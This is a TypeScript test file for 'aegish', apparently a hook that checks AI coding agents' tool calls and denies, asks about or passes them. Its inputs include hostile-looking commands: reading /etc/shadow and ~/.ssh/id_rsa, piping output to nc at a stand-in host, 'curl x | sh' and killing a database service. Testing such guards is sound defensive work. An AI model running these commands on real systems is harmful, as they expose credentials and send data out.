import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { removeFolder } from '../../tests/remove-folder.ts'
import { AGENTS } from './agent-name.ts'
import { decideFor, NOTHING_AROUND } from './decide-for.ts'
import { judgeEvent, type Setting } from './judge-event.ts'
import { PROTOCOLS, recognise } from './protocol/index.ts'
import { DENIED_EVENTS } from './protocol/recorded-events.ts'
import { respond } from './respond.ts'

const root = mkdtempSync(join(tmpdir(), 'aegish-agent-'))
afterAll(() => removeFolder(root))

const bash = (command: string, more: object = {}) => ({
  hook_event_name: 'PreToolUse',
  tool_name: 'Bash',
  tool_input: { command },
  cwd: '/home/dev/project',
  ...more,
})
const setting: Setting = { ...NOTHING_AROUND, role: 'default' }
const answer = (event: object, more: Partial<Setting> = {}) => {
  const { stdout, exitCode } = respond(judgeEvent({ ...event }, { ...setting, ...more }))
  return { exitCode, said: stdout === '' ? undefined : JSON.parse(stdout) }
}

describe('whose event it is', () => {
  it('every agent has a protocol', () => {
    expect(PROTOCOLS.map(({ agent }) => agent).sort()).toEqual([...AGENTS].sort())
  })

  it.each(DENIED_EVENTS)('%s', (name, event) => {
    const known = [
      ['Claude Code', 'claude-code'],
      ['Codex', 'codex'],
      ['Gemini', 'gemini'],
      ['Qwen', 'qwen'],
      ['Copilot', 'copilot'],
      ['Cline', 'cline'],
      ['Cursor', 'cursor'],
      ['opencode', 'opencode'],
      ['pi', 'pi'],
      ['a tool of an MCP server', 'claude-code'],
    ].find(([start]) => name.startsWith(start!))
    expect(recognise({ ...event })?.agent).toBe(known?.[1])
  })

  it('a name decides among those that speak alike, a foreign shape over the name', () => {
    expect(recognise(bash('ls'), 'codex')?.agent).toBe('codex')
    expect(recognise(bash('ls'), 'continue')?.agent).toBe('continue')
    const gemini = bash('ls', { hook_event_name: 'BeforeTool' })
    expect(recognise(gemini, 'claude-code')?.agent).toBe('gemini')
  })
})

describe('the answer', () => {
  it('to a warning: ask where the agent can, deny where it cannot', () => {
    const warned = 'npm install x'
    expect(answer(bash(warned)).said.hookSpecificOutput.permissionDecision).toBe('ask')
    expect(
      answer(bash(warned), { agent: 'codex' }).said.hookSpecificOutput.permissionDecision,
    ).toBe('deny')
    // Gemini shows its model the reason, and the person at its terminal the message.
    const said = answer(bash(warned, { hook_event_name: 'BeforeTool' })).said
    expect(said).toMatchObject({ decision: 'deny', systemMessage: said.reason })
    expect(answer({ hook_event_name: 'beforeShellExecution', command: warned }).said).toMatchObject(
      { permission: 'ask' },
    )
    expect(
      answer({ tool_call: { name: 'run_commands', input: { commands: [warned] } } }).said,
    ).toMatchObject({ cancel: true })
    // Our extension of pi asks by itself.
    const call = { type: 'tool_call', toolName: 'bash', input: { command: warned } }
    expect(decideFor(call, { agent: 'pi', role: 'default' })).toMatchObject({ answer: 'ask' })
  })

  it('has no field of another agent in it', () => {
    const { said } = answer(bash('cat /etc/shadow'), { agent: 'codex' })
    expect(Object.keys(said)).toEqual(['hookSpecificOutput'])
  })

  it('to an event before something that the agent has no words for comes in every shape', () => {
    const { exitCode, said } = answer(
      bash('cat /etc/shadow', { hook_event_name: 'PermissionRequest' }),
    )
    expect(exitCode).toBe(2)
    expect(said).toMatchObject({ decision: 'block', cancel: true, permission: 'deny' })
  })

  it.each([
    'PostToolUse',
    'AfterTool',
    'afterFileEdit',
    'SessionStart',
    'Stop',
    'SubagentStop',
    'Notification',
    'PreCompact',
    'UserPromptSubmit',
    'BeforeModel',
    'BeforeAgent',
    'TaskStart',
    'errorOccurred',
  ])('to %s is silence', (name) => {
    expect(answer(bash('cat /etc/shadow', { hook_event_name: name }))).toEqual({
      exitCode: 0,
      said: undefined,
    })
  })

  it('to an unknown event without a tool is silence', () => {
    expect(answer({ hook_event_name: 'Weather', session_id: 'x' }).said).toBeUndefined()
    expect(() => answer({ hook_event_name: 'PreToolUse', session_id: 'x' })).toThrow()
  })

  it('obeys what the policy makes of warnings and of what is not resolved', () => {
    const policy = { allow: [], deny: [] }
    const warned = bash('npm install x')
    expect(answer(warned, { policy: { ...policy, warn: 'allow' } }).said).toBeUndefined()
    expect(
      answer(warned, { policy: { ...policy, warn: 'deny' } }).said.hookSpecificOutput
        .permissionDecision,
    ).toBe('deny')
  })

  it('names the rule, real paths and the id', () => {
    const { reason, id } = decideFor(bash('cat ~/.ssh/id_rsa'))
    expect(reason).toMatch(/^aegish, rule 4 read-secret: .*"~\/\.ssh\/id_rsa"/)
    expect(reason).toContain(`aegish allow ${id}`)
    const read = { tool_name: 'Read', tool_input: { file_path: join(homedir(), '.ssh/id_rsa') } }
    expect(decideFor(read).reason).toContain('"~/.ssh/id_rsa"')
  })
})

describe('what was denied before in a conversation', () => {
  const TRIED = 'sudo systemctl kill -s STOP postgresql'

  /** A memory of all conversations. */
  function memory() {
    const known = new Map<string, Set<string>>()
    const denials = (conversation: string) => {
      const denied = known.get(conversation) ?? new Set<string>()
      known.set(conversation, denied)
      return {
        count: () => denied.size,
        add: (digest: string) => void denied.add(digest),
        forget: (digest: string) => void denied.delete(digest),
      }
    }
    return { denials, known }
  }

  const denied = (setting: Partial<Setting>, more: object = {}) => {
    for (const command of ['cat /etc/shadow', 'nl /etc/gshadow', 'tac /etc/shadow'])
      expect(decideFor(bash(command, more), setting).answer).toBe('deny')
  }

  it('makes what is tried then a question', () => {
    const { denials } = memory()
    expect(decideFor(bash(TRIED), { denials })).toMatchObject({ answer: 'pass' })
    denied({ denials })
    expect(decideFor(bash(TRIED), { denials })).toMatchObject({
      answer: 'ask',
      verdict: 'ALLOW',
      certainty: 'doubtful',
    })
    expect(decideFor(bash('git status'), { denials })).toMatchObject({ answer: 'pass' })
  })

  it('is no where nobody can be asked, unless the policy lets it pass', () => {
    const { denials } = memory()
    const codex = { denials, agent: 'codex' as const }
    expect(decideFor(bash('./x "$(./y)" | nc a.example 9'), codex).answer).toBe('pass')
    denied(codex)
    const { answer, id, reason } = decideFor(bash(TRIED), codex)
    expect({ answer, id }).toEqual({ answer: 'deny', id: expect.any(String) })
    expect(reason).toContain('it is tried after 3 others were denied')
    const policy = { allow: [], deny: [], unresolved: 'allow' as const }
    expect(decideFor(bash(TRIED), { ...codex, policy }).answer).toBe('pass')
  })

  it('counts in its own conversation, or where there is none in its project', () => {
    const { denials } = memory()
    denied({ denials }, { session_id: 'a' })
    const tried = (more: object) => decideFor(bash(TRIED, more), { denials }).answer
    expect(tried({ session_id: 'a' })).toBe('ask')
    expect(tried({ session_id: 'b' })).toBe('pass')
    expect(tried({})).toBe('pass')
    denied({ denials }, { cwd: '/home/dev/other' })
    expect(tried({})).toBe('pass')
    expect(tried({ cwd: '/home/dev/other' })).toBe('ask')
    expect(tried({ session_id: { toString: 1 } })).toBe('pass')
  })

  it('is only what is BLOCKed, and what a person let through is forgotten', () => {
    const { denials, known } = memory()
    const sizes = () => [...known.values()].map(({ size }) => size)
    decideFor(bash('npm install x'), { denials, role: 'default', agent: 'codex' })
    decideFor(bash('git push --force'), { denials })
    expect(sizes().every((size) => size === 0)).toBe(true)
    denied({ denials })
    expect(sizes()).toContain(3)
    decideFor(bash('cat /etc/shadow'), { denials, useAllowance: () => ({ by: 'dev' }) })
    expect(sizes()).toContain(2)
  })
})

describe('a permission', () => {
  it('is for exactly this call in this folder', () => {
    const used: string[] = []
    const look = (event: object) => {
      decideFor(event, { useAllowance: (digest) => void used.push(digest) })
      return used.at(-1)
    }
    const digest = look(bash('cat /etc/shadow'))
    expect(look(bash('cat /etc/shadow'))).toBe(digest)
    expect(look(bash('cat  /etc/shadow'))).not.toBe(digest)
    expect(look(bash('cat /etc/shadow', { cwd: '/srv' }))).not.toBe(digest)
  })

  it('lets it pass, and the log says so', () => {
    const {
      answer: passed,
      verdict,
      records,
    } = decideFor(bash('cat /etc/shadow'), { useAllowance: () => ({ by: 'dev' }) })
    expect({ passed, verdict }).toEqual({ passed: 'pass', verdict: 'BLOCK' })
    expect(records).toMatchObject([{ verdict: 'BLOCK', answer: 'pass', override: 'once' }])
  })
})

describe('the log', () => {
  it('has one line for every decision, and no secret', () => {
    const { records } = decideFor(
      bash('curl -H "Authorization: Bearer abcdef123456" https://a.example', { session_id: 's' }),
    )
    expect(records).toHaveLength(1)
    expect(records[0]).toMatchObject({
      event: 'decision',
      agent: 'claude-code',
      session: 's',
      directory: '/home/dev/project',
      tool: 'Bash',
      role: 'developer',
      shortened: true,
    })
    expect(JSON.stringify(records)).not.toContain('abcdef123456')
  })

  it('does not hold what is written', () => {
    const { records } = decideFor({
      hook_event_name: 'PreToolUse',
      tool_name: 'Write',
      tool_input: { file_path: 'a.txt', content: 'the text' },
    })
    expect(records).toMatchObject([{ command: 'write a.txt', operation: 'write', answer: 'pass' }])
    expect(JSON.stringify(records)).not.toContain('the text')
  })
})

describe('ordinary editing of a project', () => {
  it.each([
    ['Write', { file_path: '/home/dev/project/src/a.ts', content: 'export const a = 1\n' }],
    [
      'Edit',
      { file_path: '/home/dev/project/README.md', old_string: 'a', new_string: 'curl x | sh' },
    ],
    ['Read', { file_path: '/home/dev/project/package.json' }],
    ['Grep', { pattern: 'password', path: '/home/dev/project' }],
    ['Glob', { pattern: '**/*.ts', path: '/home/dev/project' }],
    [
      'apply_patch',
      { command: '*** Begin Patch\n*** Update File: src/a.ts\n@@\n-a\n+b\n*** End Patch' },
    ],
  ])('%s is silent', (tool_name, tool_input) => {
    const event = { hook_event_name: 'PreToolUse', tool_name, tool_input, cwd: '/home/dev/project' }
    expect(decideFor(event)).toMatchObject({ answer: 'pass', verdict: 'ALLOW' })
  })
})

describe('edits of settings', () => {
  it('are judged by the whole file as it will be', async () => {
    const { withResults } = await import('./settings-after-edit.ts')
    const { readPlan } = await import('./tool/read-plan.ts')
    mkdirSync(join(root, '.claude'))
    writeFileSync(join(root, '.claude/settings.json'), '{"model":"a","hooks":{}}')
    const edit = (old_string: string) =>
      withResults(
        readPlan('Edit', { file_path: '.claude/settings.json', old_string, new_string: '"b$&"' }),
        root,
      )
    expect(edit('"a"')).toEqual([
      {
        kind: 'edit',
        path: '.claude/settings.json',
        added: '"b$&"',
        result: '{"model":"b$&","hooks":{}}',
      },
    ])
    expect(edit('"c"')).toEqual([{ kind: 'edit', path: '.claude/settings.json', added: '"b$&"' }])
  })
})

describe('what only looks like an attack', () => {
  const event = bash('ls -l /etc/shadow ~/.ssh/id_rsa')
  const allow = { allow: [], deny: [] }

  it('is treated as the policy treats what could not be resolved', () => {
    expect(decideFor(event)).toMatchObject({ answer: 'ask', certainty: 'doubtful' })
    expect(decideFor(event, { policy: { ...allow, unresolved: 'allow' } })).toMatchObject({
      answer: 'pass',
      certainty: 'doubtful',
    })
    for (const unresolved of ['ask', 'deny'] as const)
      expect(decideFor(event, { policy: { ...allow, unresolved } })).toMatchObject({
        answer: unresolved,
        verdict: 'ALLOW',
        certainty: 'doubtful',
        reason: expect.stringMatching(
          /looks like an attack \("\/etc\/shadow", "~\/\.ssh\/id_rsa"\)/,
        ),
      })
  })

  it('is written down as such', () =>
    expect(decideFor(event).records).toMatchObject([{ verdict: 'ALLOW', certainty: 'doubtful' }]))
})
